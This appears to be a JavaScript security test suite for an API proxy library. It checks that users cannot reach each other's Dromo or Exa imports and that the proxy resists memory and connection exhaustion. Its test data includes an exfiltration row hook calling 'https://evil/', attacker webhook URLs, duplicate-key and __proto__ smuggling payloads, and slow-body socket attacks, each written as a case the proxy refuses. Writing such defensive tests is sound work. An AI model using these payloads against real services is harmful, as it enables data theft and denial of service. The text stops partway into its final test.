// @ts-check
// The proxy as an attacker meets it: two signed-in users on one proxy against the emulator, each
// trying to reach the other's imports; browsers trying to choose what only the server may
// (hooks, webhook URLs, the owner); an API that echoes the key; a crowd of large or slow
// bodies, and of large answers, trying to exhaust the proxy's memory and connections.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import net from 'node:net';
import { spawn } from 'node:child_process';
import { startEmulator, loadPackage, installPackage, control, KEY, CONTACTS } from './helpers/env.js';

const EXA_KEY = 'test-exa-key';
const PRODUCTS = '0b8a7d5c-2f6e-4a51-9b3c-5d7e8f9a0b1c';
const CONTACTS_CSV = 'First Name,Last Name,Email Address,Age\nAda,Lovelace,ada@example.com,36\n';
const URLS_CSV = 'url,name\nhttps://a.example,A\n';

/** @type {Awaited<ReturnType<typeof startEmulator>>} */ let emu;
/** @type {any} */ let pkg;

before(async () => {
  [emu, pkg] = await Promise.all([startEmulator(['--time-scale', '0.01']), loadPackage()]);
});
after(async () => emu?.stop());

/** Sessions as an app keeps them: a cookie names the user. */
const SESSIONS = { 's-alice': 'user-alice', 's-bob': 'user-bob', 's-carol': 'user-carol' };
/** @param {Request} request */
const authorize = (request) => {
  const sid = /(?:^|;\s*)sid=([^;]+)/.exec(request.headers.get('cookie') ?? '')?.[1];
  return /** @type {Record<string, string>} */ (SESSIONS)[sid ?? ''] ?? null;
};

/**
 * A proxied call as a browser of `who` makes it.
 * @param {(r: Request) => Promise<Response>} handler
 * @param {'alice' | 'bob' | 'carol' | 'nobody'} who
 * @param {string} p
 * @param {{ method?: string, body?: unknown, headers?: Record<string, string> }} [init]
 */
async function as(handler, who, p, init = {}) {
  const headers = { cookie: `sid=s-${who}`, ...(init.body !== undefined ? { 'content-type': 'application/json' } : {}), ...init.headers };
  const body = init.body === undefined ? undefined : typeof init.body === 'string' ? init.body : JSON.stringify(init.body);
  const res = await handler(new Request(`http://app.test${p}`, { method: init.method ?? 'GET', headers, body }));
  const text = await res.text();
  assert.equal(res.headers.get('x-content-type-options'), 'nosniff', `${p}: no nosniff`);
  for (const k of [KEY, EXA_KEY]) assert.ok(!text.includes(k), `${p}: the key reached the browser`);
  let json;
  try {
    json = JSON.parse(text);
  } catch {
    json = undefined;
  }
  return { status: res.status, json, text };
}

/** Polls through the proxy until the import is final. */
async function settle(/** @type {any} */ handler, /** @type {string} */ p, /** @type {(j: any) => boolean} */ done) {
  for (let i = 0; i < 200; i++) {
    const r = await as(handler, 'alice', p);
    if (r.status === 200 && done(r.json)) return r.json;
    await new Promise((res) => setTimeout(res, 20));
  }
  throw new Error(`${p} never settled`);
}

test('a proxy without authorize refuses to start; a request without a session is 401 before anything is sent', async () => {
  assert.throws(() => pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api }), /authorize is required/);
  /** @type {string[]} */
  const sent = [];
  /** @type {typeof fetch} */
  const spy = (url, init) => {
    sent.push(String(url));
    return fetch(url, init);
  };
  const dromo = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, fetch: spy });
  for (const [method, p] of [['GET', '/api/dromo/headless/imports/'], ['POST', '/api/dromo/headless/imports/'], ['GET', '/api/dromo/headless/imports/x/'], ['DELETE', '/api/dromo/headless/imports/x/'], ['GET', '/api/dromo/headless/imports/x/url/']]) {
    const r = await as(dromo, 'nobody', p, { method, ...(method === 'POST' ? { body: { schema_id: CONTACTS, original_filename: 'a.csv' } } : {}) });
    assert.equal(r.status, 401, `${method} ${p}`);
    assert.equal(r.json.code, 'proxy_unauthorized');
  }
  // The app's own refusal passes as it is; a throwing authorize is a 500 that says nothing more.
  const forbid = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, fetch: spy, authorize: () => new Response('{"detail":"not your team"}', { status: 403, headers: { 'x-content-type-options': 'nosniff' } }) });
  const f = await as(forbid, 'alice', '/api/dromo/headless/imports/');
  assert.equal(f.status, 403);
  assert.equal(f.json.detail, 'not your team');
  const broken = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, fetch: spy, authorize: () => { throw new Error(`db down ${KEY}`); } });
  const b = await as(broken, 'alice', '/api/dromo/headless/imports/');
  assert.equal(b.status, 500);
  assert.ok(!b.text.includes('db down'));
  assert.deepEqual(sent, [], 'nothing reached the API');
});

test('Dromo: two users on one proxy each reach only their own imports', { timeout: 30_000 }, async () => {
  const dromo = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize });
  // Alice: a file import (created, uploaded straight to storage) and a rows import.
  const file = await as(dromo, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: { schema_id: CONTACTS, original_filename: 'a.csv' } });
  assert.equal(file.status, 201, file.text);
  const put = await fetch(file.json.upload, { method: 'PUT', body: CONTACTS_CSV });
  assert.equal(put.status, 200);
  const rows = await as(dromo, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: { schema_id: CONTACTS, initial_data: [{ first_name: 'Ada', last_name: 'L', email: 'ada@example.com', age: 36 }] } });
  assert.equal(rows.status, 201, rows.text);
  const bobs = await as(dromo, 'bob', '/api/dromo/headless/imports/', { method: 'POST', body: { schema_id: CONTACTS, original_filename: 'b.csv' } });
  assert.equal(bobs.status, 201);
  const done = await settle(dromo, `/api/dromo/headless/imports/${file.json.id}/`, (j) => j.status === 'SUCCESSFUL');
  assert.equal(done.id, file.json.id);

  // Every cross-user read, result download and delete is refused exactly as a missing import is.
  for (const id of [file.json.id, rows.json.id]) {
    for (const [method, p] of [['GET', `/api/dromo/headless/imports/${id}/`], ['GET', `/api/dromo/headless/imports/${id}/url/`], ['DELETE', `/api/dromo/headless/imports/${id}/`]]) {
      const r = await as(dromo, 'bob', p, { method });
      assert.equal(r.status, 404, `bob ${method} ${p}: ${r.text}`);
      assert.equal(r.json.code, 'proxy_not_found');
    }
  }
  assert.equal((await control(`${emu.control}/dromo/imports/${file.json.id}`)).import.status, 'SUCCESSFUL', "bob's delete did nothing");
  const missing = await as(dromo, 'bob', '/api/dromo/headless/imports/no-such-import/');
  assert.equal(missing.text, (await as(dromo, 'bob', `/api/dromo/headless/imports/${file.json.id}/`)).text, 'another user\'s import looks like a missing one');

  // Alice gets her result URL; lists show each their own, newest first, with a count of their own.
  const url = await as(dromo, 'alice', `/api/dromo/headless/imports/${file.json.id}/url/`);
  assert.equal(url.status, 200, url.text);
  const aliceList = await as(dromo, 'alice', '/api/dromo/headless/imports/?limit=1');
  assert.deepEqual([aliceList.json.count, aliceList.json.results.map((/** @type {any} */ i) => i.id)], [2, [rows.json.id]]);
  assert.match(aliceList.json.next, /offset=1/);
  const page2 = await as(dromo, 'alice', '/api/dromo/headless/imports/?limit=1&offset=1');
  assert.deepEqual(page2.json.results.map((/** @type {any} */ i) => i.id), [file.json.id]);
  const bobList = await as(dromo, 'bob', '/api/dromo/headless/imports/');
  assert.deepEqual(bobList.json.results.map((/** @type {any} */ i) => i.id), [bobs.json.id]);

  // The owner is in Dromo's dashboard (import_metadata.user.id), whatever the browser claimed.
  const claimed = await as(dromo, 'bob', '/api/dromo/headless/imports/', { method: 'POST', body: { schema_id: CONTACTS, original_filename: 'c.csv', import_metadata: { user: { id: 'user-alice', name: 'Alice' } } } });
  assert.equal(claimed.status, 201);
  assert.deepEqual((await control(`${emu.control}/dromo/imports/${claimed.json.id}`)).import_metadata, { user: { id: 'user-bob' } });
  assert.equal((await as(dromo, 'alice', `/api/dromo/headless/imports/${claimed.json.id}/`)).status, 404, 'a claimed owner is not an owner');

  // Alice may delete hers; it is gone from her list.
  assert.equal((await as(dromo, 'alice', `/api/dromo/headless/imports/${rows.json.id}/`, { method: 'DELETE' })).status, 204);
  assert.equal((await as(dromo, 'alice', '/api/dromo/headless/imports/')).json.count, 1);

  // The whole account's list is off unless the server turns it on.
  const account = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, list: 'account' });
  assert.ok((await as(account, 'bob', '/api/dromo/headless/imports/')).json.count >= 3);
  const none = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, list: false });
  assert.equal((await as(none, 'alice', '/api/dromo/headless/imports/')).status, 403);
});

test('Exa: two users, the owner written in the import itself, update and delete scoped, a second instance agrees', { timeout: 30_000 }, async () => {
  const exa = pkg.createProxyHandler({ provider: 'exa', apiKey: EXA_KEY, baseUrl: emu.exa, authorize });
  const params = { size: URLS_CSV.length, count: 1, format: 'csv', entity: { type: 'company' } };
  const mine = await as(exa, 'alice', '/api/exa/v0/imports', { method: 'POST', body: { ...params, metadata: { headlessImportsOwner: 'user-bob', note: 'x' } } });
  assert.equal(mine.status, 201, mine.text);
  assert.deepEqual(mine.json.metadata, { headlessImportsOwner: 'user-alice', note: 'x' }, 'the owner is the proxy\'s to say');
  for (const [method, body] of [['GET', undefined], ['PATCH', { title: 'stolen' }], ['DELETE', undefined]]) {
    const r = await as(exa, 'bob', `/api/exa/v0/imports/${mine.json.id}`, { method, body });
    assert.equal(r.status, 404, `bob ${method}: ${r.text}`);
  }
  // Alice's PATCH cannot remove or change the owner, though Exa replaces metadata wholesale.
  const patched = await as(exa, 'alice', `/api/exa/v0/imports/${mine.json.id}`, { method: 'PATCH', body: { title: 'mine', metadata: { headlessImportsOwner: 'user-bob' } } });
  assert.equal(patched.status, 200, patched.text);
  assert.deepEqual(patched.json.metadata, { headlessImportsOwner: 'user-alice' });

  // Another server instance with an empty store (behind the same load balancer): the owner in the
  // import still decides.
  const other = pkg.createProxyHandler({ provider: 'exa', apiKey: EXA_KEY, baseUrl: emu.exa, authorize });
  assert.equal((await as(other, 'bob', `/api/exa/v0/imports/${mine.json.id}`)).status, 404);
  assert.equal((await as(other, 'alice', `/api/exa/v0/imports/${mine.json.id}`)).json.title, 'mine');
  // Lists are each user's own, by an opaque cursor.
  const second = await as(exa, 'alice', '/api/exa/v0/imports', { method: 'POST', body: params });
  const page = await as(exa, 'alice', '/api/exa/v0/imports?limit=1');
  assert.deepEqual([page.json.data.map((/** @type {any} */ i) => i.id), page.json.hasMore], [[second.json.id], true]);
  const next = await as(exa, 'alice', `/api/exa/v0/imports?limit=1&cursor=${page.json.nextCursor}`);
  assert.deepEqual([next.json.data.map((/** @type {any} */ i) => i.id), next.json.hasMore, next.json.nextCursor], [[mine.json.id], false, null]);
  assert.deepEqual((await as(exa, 'bob', '/api/exa/v0/imports')).json.data, []);
  assert.equal((await as(exa, 'alice', '/api/exa/v0/imports?cursor=not-a-cursor')).status, 400);
  assert.equal((await as(exa, 'alice', `/api/exa/v0/imports/${mine.json.id}`, { method: 'DELETE' })).status, 200);
});

test('the server pins what a browser may create: hooks and webhook URLs are refused, the create option decides the rest', async () => {
  /** @type {any[]} */
  const upstream = [];
  /** @type {typeof fetch} */
  const spy = (url, init) => {
    if (init?.body) upstream.push(JSON.parse(new TextDecoder().decode(/** @type {Uint8Array} */ (init.body))));
    return fetch(url, init);
  };
  const plainProxy = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, fetch: spy });
  const attacks = [
    [{ schema_id: CONTACTS, original_filename: 'a.csv', hooks: { rowHooks: ['fetch("https://evil/"+JSON.stringify(row))'] } }, 'hooks'],
    [{ schema_id: CONTACTS, original_filename: 'a.csv', settings: { webhookUrl: 'https://evil.example/hook' } }, 'settings.webhookUrl'],
    [{ schema_id: CONTACTS, original_filename: 'a.csv', settings: { needsReviewWebhookUrl: 'https://evil.example/hook' } }, 'settings.needsReviewWebhookUrl'],
  ];
  for (const [body, field] of attacks) {
    const r = await as(plainProxy, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body });
    assert.equal(r.status, 403, JSON.stringify(body));
    assert.equal(r.json.code, 'proxy_forbidden_field');
    assert.match(r.json.detail, new RegExp(String(field).replace('.', '\\.')));
  }
  // Smuggling the key twice, so the proxy checks one and the API reads the other: refused. So is
  // a __proto__ key, which would hand values to what the proxy reads through the prototype.
  const dup = await as(plainProxy, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: `{"schema_id":"${CONTACTS}","original_filename":"a.csv","hooks":null,"hooks":{"rowHooks":["x"]}}` });
  assert.equal(dup.status, 400);
  const proto = await as(plainProxy, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: `{"schema_id":"${CONTACTS}","original_filename":"a.csv","__proto__":{"import_metadata":{"user":{"id":"x","name":"CEO"}}}}` });
  assert.equal(proto.status, 400);
  // A cross-site form post, or any body that is not JSON, never gets through.
  for (const type of ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data; boundary=x']) {
    const r = await as(plainProxy, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: '{}', headers: { 'content-type': type } });
    assert.equal(r.status, 415, type);
  }
  assert.deepEqual(upstream, [], 'none of it reached the API');

  // The create option pins the schema and the settings, adds server-side hooks, and refuses rows.
  const pinned = pkg.createProxyHandler({
    provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, fetch: spy,
    create: (/** @type {any} */ params, /** @type {string} */ identity) => {
      if (!params.original_filename) return new Response(JSON.stringify({ detail: 'files only' }), { status: 422, headers: { 'content-type': 'application/json', 'x-content-type-options': 'nosniff' } });
      return { schema_id: CONTACTS, original_filename: params.original_filename, settings: { importIdentifier: `by ${identity}` }, hooks: { rowHooks: ['row'] }, import_metadata: { user: { name: 'Alice A.' } } };
    },
  });
  const made = await as(pinned, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: { schema_id: PRODUCTS, original_filename: 'x.csv', fields: [{ key: 'k', label: 'K', type: 'string' }] } });
  assert.equal(made.status, 201, made.text);
  assert.equal(made.json.schema_id, CONTACTS, 'the server chose the schema');
  const seen = await control(`${emu.control}/dromo/imports/${made.json.id}`);
  assert.equal(seen.settings.importIdentifier, 'by user-alice');
  assert.deepEqual(seen.hooks.rowHooks, ['row']);
  assert.deepEqual(seen.import_metadata, { user: { name: 'Alice A.', id: 'user-alice' } });
  const refused = await as(pinned, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: { schema_id: CONTACTS, initial_data: [{ a: 1 }] } });
  assert.equal(refused.status, 422);
});

test('no import id is lost through the proxy: a cut-off create answer is still recorded, a lost Exa create is taken back', { timeout: 30_000 }, async () => {
  const rules = (/** @type {object[]} */ ...r) => fetch(`${emu.control}/faults`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ seed: 3, rules: r }) });
  try {
    const proxy = await listenProxy(pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize }));
    const exaProxy = await listenProxy(pkg.createProxyHandler({ provider: 'exa', apiKey: EXA_KEY, baseUrl: emu.exa, authorize }));
    const browser = new pkg.Dromo({ baseUrl: `${proxy.url}/api/dromo`, headers: { cookie: 'sid=s-alice' }, maxRetries: 3 });
    // A rows create cut off mid-body: not retried, its id on the error, and reachable by its owner.
    await rules({ route: 'dromo.create', kind: 'truncated_json', count: 1 });
    const err = await browser.importRows([{ first_name: 'A', last_name: 'B', email: 'a@example.com', age: 3 }], { schema_id: CONTACTS }).catch((/** @type {any} */ e) => e);
    assert.equal(err.code, 'invalid_response');
    const seen = await browser.imports.waitForCompletion(err.import.id);
    assert.equal(seen.id, err.import.id, 'the owner reaches the import its cut-off answer named');
    // A file create cut off: the client deletes the one it cannot upload to (through the proxy),
    // then creates again; nothing is left behind.
    const before = (await (await fetch(`${emu.api}/headless/imports/?limit=1`, { headers: { 'X-Dromo-License-Key': KEY } })).json()).count;
    await rules({ route: 'dromo.create', kind: 'truncated_json', count: 1 });
    const made = await browser.imports.create({ schema_id: CONTACTS, original_filename: 'a.csv' });
    const after = (await (await fetch(`${emu.api}/headless/imports/?limit=1`, { headers: { 'X-Dromo-License-Key': KEY } })).json()).count;
    assert.equal(after, before + 1, 'one import: the cut-off one was deleted');
    assert.equal((await browser.imports.retrieve(made.id)).id, made.id);
    // Exa: the connection dies after the import was made. The proxy finds it by the client's
    // token and takes it back; the client's retry makes the one it keeps.
    const exa = new pkg.Exa({ baseUrl: `${exaProxy.url}/api/exa`, headers: { cookie: 'sid=s-alice' }, maxRetries: 3 });
    const list = async () => (await (await fetch(`${emu.exa}/v0/imports?limit=200`, { headers: { 'x-api-key': EXA_KEY } })).json()).data;
    const exaBefore = (await list()).length;
    await rules({ route: 'exa.create', kind: 'reset_after', count: 1 });
    const kept = await exa.imports.create({ size: 10, count: 1, format: 'csv', entity: { type: 'company' } });
    const exaAfter = await list();
    assert.equal(exaAfter.length, exaBefore + 1, 'only the import the caller got exists');
    assert.ok(exaAfter.some((/** @type {any} */ i) => i.id === kept.id));
  } finally {
    await fetch(`${emu.control}/faults`, { method: 'DELETE' });
  }
});

/** A fetch handler served by node:http on loopback (closed after the tests). @param {any} handler */
async function listenProxy(handler) {
  const server = http.createServer((req, res) => void handler.node(req, res));
  await new Promise((r) => server.listen(0, '127.0.0.1', () => r(undefined)));
  after(() => new Promise((r) => { server.closeAllConnections(); server.close(() => r(undefined)); }));
  return { url: `http://127.0.0.1:${/** @type {any} */ (server.address()).port}` };
}

test('rows pass through unparsed and unchanged, a key the API echoes is scrubbed, redirects are refused', async () => {
  const echo = http.createServer((req, res) => {
    const chunks = /** @type {Buffer[]} */ ([]);
    req.on('data', (c) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString();
      if (req.url?.includes('redirect')) return void res.writeHead(302, { location: 'http://127.0.0.1:1/steal' }).end();
      res.writeHead(req.method === 'POST' ? 201 : 200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ id: 'imp-1', key: req.headers['x-dromo-license-key'], body }));
    });
  });
  await new Promise((r) => echo.listen(0, '127.0.0.1', () => r(undefined)));
  const base = `http://127.0.0.1:${/** @type {any} */ (echo.address()).port}/api/v1`;
  try {
    const dromo = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: base, authorize });
    // Rows with the characters a naive splitter trips on, as the browser serialised them.
    const rows = '[{"a":"}\\"],{","b":"\\u00e9\\ud83d\\ude00"},{"c":[1,{"d":"]"}]}]';
    const text = `{"schema_id":"${CONTACTS}",  "initial_data" : ${rows}}`;
    const r = await as(dromo, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: text });
    assert.equal(r.status, 201, r.text);
    assert.equal(r.json.key, '***', 'the echoed key was scrubbed');
    const sent = JSON.parse(r.json.body);
    assert.equal(JSON.stringify(sent.initial_data), JSON.stringify(JSON.parse(rows)));
    assert.ok(r.json.body.endsWith(`"initial_data":${rows}}`), 'the rows bytes are the browser\'s own');
    assert.deepEqual(sent.import_metadata, { user: { id: 'user-alice' } });
    const back = await as(dromo, 'alice', '/api/dromo/headless/imports/imp-1/');
    assert.equal(back.status, 200);
    const redirected = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: `${base}/redirect`, authorize, list: 'account' });
    const red = await as(redirected, 'alice', '/api/dromo/headless/imports/');
    assert.equal(red.status, 502);
    assert.equal(red.json.code, 'proxy_upstream_redirect');
  } finally {
    echo.closeAllConnections();
    await new Promise((r) => echo.close(() => r(undefined)));
  }
});

test('a slow body is cut off (408) and frees its share; slow bodies hold only what they sent, and one caller at most two', async () => {
  const dromo = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, bodyTimeoutMs: 200, maxBytesInFlight: 2 * 1024 * 1024 });
  /** A body that sends a byte and then nothing. */
  const slow = () => new ReadableStream({
    start(c) {
      c.enqueue(new TextEncoder().encode('{'));
    },
  });
  const res = await dromo(new Request('http://app.test/api/dromo/headless/imports/', {
    method: 'POST', headers: { cookie: 'sid=s-alice', 'content-type': 'application/json', 'content-length': '400000' }, body: slow(), duplex: 'half',
  }));
  assert.equal(res.status, 408);
  assert.equal((await res.json()).code, 'proxy_body_timeout');
  // Alice's two bodies that trickle in hold at most half the budget, however large they claim to
  // be: bob's 300 kB body (0.9 MB charged) still goes through while they hang.
  const hanging = [['content-length', '300000'], ['x-unknown-length', '1']].map((h) => dromo(new Request('http://app.test/api/dromo/headless/imports/', {
    method: 'POST', headers: { cookie: 'sid=s-alice', 'content-type': 'application/json', [h[0]]: h[1] }, body: slow(), duplex: 'half',
  })));
  await new Promise((r) => setTimeout(r, 20));
  // A third body of the same caller waits its turn (429, which the clients retry).
  const third = await as(dromo, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: { schema_id: CONTACTS, original_filename: 'a.csv' } });
  assert.equal(third.status, 429);
  assert.equal(third.json.code, 'proxy_busy');
  const body = JSON.stringify({ schema_id: CONTACTS, original_filename: 'a.csv', settings: { title: 'x'.repeat(300_000) } });
  const ok = await as(dromo, 'bob', '/api/dromo/headless/imports/', { method: 'POST', body, headers: { 'content-length': String(body.length) } });
  assert.equal(ok.status, 201, ok.text);
  for (const r of await Promise.all(hanging)) assert.equal(r.status, 408);
});

test('one caller cannot spend the account\'s create limit; refusals that reached nothing say so (x-should-retry)', async () => {
  const dromo = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, createsPerCaller: { creates: 3, windowMs: 60_000 } });
  const make = (/** @type {'alice' | 'bob'} */ who) => dromo(new Request('http://app.test/api/dromo/headless/imports/', {
    method: 'POST', headers: { cookie: `sid=s-${who}`, 'content-type': 'application/json' }, body: JSON.stringify({ schema_id: CONTACTS, original_filename: 'a.csv' }),
  }));
  // Creates that made no import spend nothing: a body the proxy refuses, and the API's own 4xx (an
  // unknown schema). Before, each took one of the caller's slots.
  const bad = (/** @type {string} */ body) => dromo(new Request('http://app.test/api/dromo/headless/imports/', {
    method: 'POST', headers: { cookie: 'sid=s-alice', 'content-type': 'application/json' }, body,
  }));
  for (let i = 0; i < 3; i++) {
    assert.equal((await bad('[1]')).status, 400);
    assert.equal((await bad(JSON.stringify({ schema_id: '00000000-0000-4000-8000-000000000000', original_filename: 'a.csv' }))).status, 404);
  }
  for (let i = 0; i < 3; i++) assert.equal((await make('alice')).status, 201);
  const fourth = await make('alice');
  assert.equal(fourth.status, 429);
  assert.equal(fourth.headers.get('x-should-retry'), 'true');
  assert.ok(Number(fourth.headers.get('retry-after')) >= 1);
  assert.equal((await make('bob')).status, 201, 'another caller still creates');
});

test('40 concurrent 15 MiB bodies: peak memory stays within the in-flight cap plus a small constant; the rest wait with 503', { timeout: 120_000 }, async () => {
  const CAP = 64 * 1024 * 1024;
  const BODY = 15 * 1024 * 1024;
  // Upstream: a sink that answers 201 after reading the body (the emulator would refuse 15 MiB of
  // junk rows, and its memory is not what this measures).
  const sink = http.createServer((req, res) => {
    req.resume();
    req.on('end', () => setTimeout(() => res.writeHead(201, { 'content-type': 'application/json' }).end('{"id":"x"}'), 50));
  });
  await new Promise((r) => sink.listen(0, '127.0.0.1', () => r(undefined)));
  const upstream = `http://127.0.0.1:${/** @type {any} */ (sink.address()).port}/api/v1`;
  // The proxy runs in a child process of its own, so its RSS is all this measures.
  const script = `
    import http from 'node:http';
    import { createProxyHandler } from 'headless-imports';
    // Each request its own caller: the shared budget is what this measures, not one caller's share.
    const proxy = createProxyHandler({ provider: 'dromo', apiKey: 'k', baseUrl: ${JSON.stringify(upstream)}, authorize: (r) => r.headers.get('x-user'), maxBytesInFlight: ${CAP}, createsPerCaller: false });
    const server = http.createServer((req, res) => void proxy.node(req, res));
    server.listen(0, '127.0.0.1', () => process.send({ port: server.address().port }));
    let peak = 0;
    const sample = setInterval(() => { peak = Math.max(peak, process.memoryUsage.rss()); }, 5);
    process.on('message', (m) => {
      if (m === 'base') { globalThis.gc?.(); process.send({ base: process.memoryUsage.rss() }); peak = 0; }
      if (m === 'peak') { clearInterval(sample); process.send({ peak }); server.close(); server.closeAllConnections(); }
    });
  `;
  const dir = installPackage();
  const child = spawn(process.execPath, ['--expose-gc', '--input-type=module', '-e', script], { cwd: dir, stdio: ['ignore', 'inherit', 'inherit', 'ipc'] });
  const next = () => new Promise((resolve) => child.once('message', resolve));
  try {
    const { port } = /** @type {any} */ (await next());
    // Warm up: one small request through every code path.
    await post(port, Buffer.from(JSON.stringify({ schema_id: 'x', original_filename: 'a.csv' })));
    child.send('base');
    const { base } = /** @type {any} */ (await next());
    const rows = Buffer.alloc(BODY - 64, 0x20);
    const body = Buffer.concat([Buffer.from('{"schema_id":"x","initial_data":['), rows.subarray(0, BODY - 64 - 34 - 3), Buffer.from('{}]}')]);
    const results = await Promise.all(Array.from({ length: 40 }, () => post(port, body)));
    child.send('peak');
    const { peak } = /** @type {any} */ (await next());
    const statuses = results.map((r) => r.status);
    const created = statuses.filter((s) => s === 201).length;
    // Refused bodies are answered 503 before they are read, and the connection closed; a client
    // still writing may see the close first (status 0 here).
    const busy = results.filter((r) => r.status === 503 || r.status === 0);
    const growth = peak - base;
    console.log(`40 x 15 MiB: ${created} relayed, ${busy.length} told to retry (503); proxy RSS ${(base / 2 ** 20).toFixed(0)} MiB -> peak ${(peak / 2 ** 20).toFixed(0)} MiB (+${(growth / 2 ** 20).toFixed(1)} MiB, cap ${CAP / 2 ** 20} MiB)`);
    assert.ok(created >= 1, `some bodies got through: ${statuses.join(',')}`);
    assert.equal(created + busy.length, 40, `every body was relayed or refused: ${statuses.join(',')}`);
    assert.ok(results.some((r) => r.status === 503), 'some were answered 503');
    for (const b of busy) if (b.status === 503) assert.equal(b.retryAfter, '1');
    assert.ok(growth < CAP + 32 * 1024 * 1024, `peak RSS growth ${(growth / 2 ** 20).toFixed(1)} MiB`);
  } finally {
    child.kill();
    sink.closeAllConnections();
    sink.close();
  }
});

let posts = 0;
/** A raw POST to the proxy child, as a caller of its own. @param {number} port @param {Buffer} body */
function post(port, body) {
  return new Promise((resolve) => {
    const headers = { 'content-type': 'application/json', 'content-length': body.length, 'x-user': `user-${posts++}` };
    const req = http.request({ host: '127.0.0.1', port, method: 'POST', path: '/api/dromo/headless/imports/', headers }, (res) => {
      res.resume();
      res.on('end', () => resolve({ status: res.statusCode, retryAfter: res.headers['retry-after'] }));
    });
    // A refused body is answered before it is read and the connection closed: that is fine.
    req.on('error', () => resolve({ status: 0 }));
    req.end(body);
  });
}


// ------------------------------------------------------------------------------------------------
// Findings of an independent attacker trial, one test each
// ------------------------------------------------------------------------------------------------

const sleep = (/** @type {number} */ ms) => new Promise((r) => setTimeout(r, ms));

/**
 * A raw HTTP/1.1 request over its own socket, written in `parts` (`number` entries are pauses in
 * ms), so a test controls exactly when each byte arrives. Resolves with the status and how long
 * the answer took from the first byte written; the socket is closed after the answer (or 20 s).
 * @param {number} port
 * @param {Array<string | number>} parts
 * @returns {Promise<{ status: number, ms: number, text: string }>}
 */
function rawRequest(port, parts) {
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1');
    const started = Date.now();
    let text = '';
    const done = () => {
      socket.destroy();
      clearTimeout(limit);
      resolve({ status: Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0), ms: Date.now() - started, text });
    };
    const limit = setTimeout(done, 20_000);
    socket.on('data', (d) => {
      text += d.toString('latin1');
      if (/\r\n\r\n/.test(text)) done();
    });
    socket.on('error', done);
    socket.on('close', done);
    void (async () => {
      for (const p of parts) {
        if (socket.destroyed) return;
        if (typeof p === 'string') socket.write(p);
        // A pause ends early once the socket is gone, so no timer outlives the test.
        for (const until = Date.now() + p; typeof p === 'number' && Date.now() < until && !socket.destroyed;) await sleep(Math.min(50, until - Date.now()));
      }
    })();
  });
}

/** A node:http server for `handler` on loopback that counts the requests it has seen. @param {any} handler */
async function serveCounting(handler) {
  let seen = 0;
  const server = http.createServer((req, res) => {
    seen += 1;
    void handler.node(req, res);
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', () => r(undefined)));
  const close = () => new Promise((r) => { server.closeAllConnections(); server.close(() => r(undefined)); });
  return { port: /** @type {any} */ (server.address()).port, seen: () => seen, close };
}

test('connections that declare a large Content-Length and send nothing soon hold nothing: another user\'s create still goes through', { timeout: 30_000 }, async () => {
  // Defaults: a 64 MiB budget, 30 s for a body. Alice's two connections declare 8 MB each and
  // bob's 6.365 MB (3 x 22.4 MB charged up front and held for the whole 30 s, before this was
  // fixed: the whole budget), and none sends a byte.
  const dromo = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize });
  const srv = await serveCounting(dromo);
  const head = (/** @type {string} */ who, /** @type {number} */ length) =>
    `POST /api/dromo/headless/imports/ HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: sid=s-${who}\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;
  const idle = [head('alice', 8_000_000), head('alice', 8_000_000), head('bob', 6_365_000)].map((h) => rawRequest(srv.port, [h, 25_000]));
  try {
    for (let i = 0; i < 100 && srv.seen() < 3; i++) await sleep(20);
    assert.equal(srv.seen(), 3, 'the idle requests reached the proxy');
    // Past the second a declared length is held whatever the pace (time to start sending).
    await sleep(1_200);
    const res = await fetch(`http://127.0.0.1:${srv.port}/api/dromo/headless/imports/`, {
      method: 'POST', headers: { cookie: 'sid=s-carol', 'content-type': 'application/json' }, body: JSON.stringify({ schema_id: CONTACTS, original_filename: 'c.csv' }),
    });
    const text = await res.text();
    assert.equal(res.status, 201, `carol's 70-byte create while three connections sit idle: ${text}`);
  } finally {
    await srv.close();
    await Promise.all(idle);
  }
});

test('a body that stops arriving is cut off after a third of bodyTimeoutMs (408); one that keeps coming is not', { timeout: 30_000 }, async () => {
  const dromo = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, bodyTimeoutMs: 3_000 });
  const srv = await serveCounting(dromo);
  const body = JSON.stringify({ schema_id: CONTACTS, original_filename: 'slow-but-steady.csv' });
